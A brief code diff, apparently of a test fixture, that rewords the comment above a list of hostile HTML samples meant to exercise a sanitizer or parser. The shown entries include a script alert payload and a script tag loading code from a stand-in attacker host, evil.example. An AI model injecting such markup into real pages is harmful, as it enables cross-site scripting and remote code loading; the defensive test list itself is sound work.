@@ -1,4 +1,4 @@
-/** Markup that tries to run code, call home, cover the page or confuse a parser. */
+/** Markup that tries to run code, send requests, cover the page or confuse a parser. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src="https://evil.example/x.js"></script>',
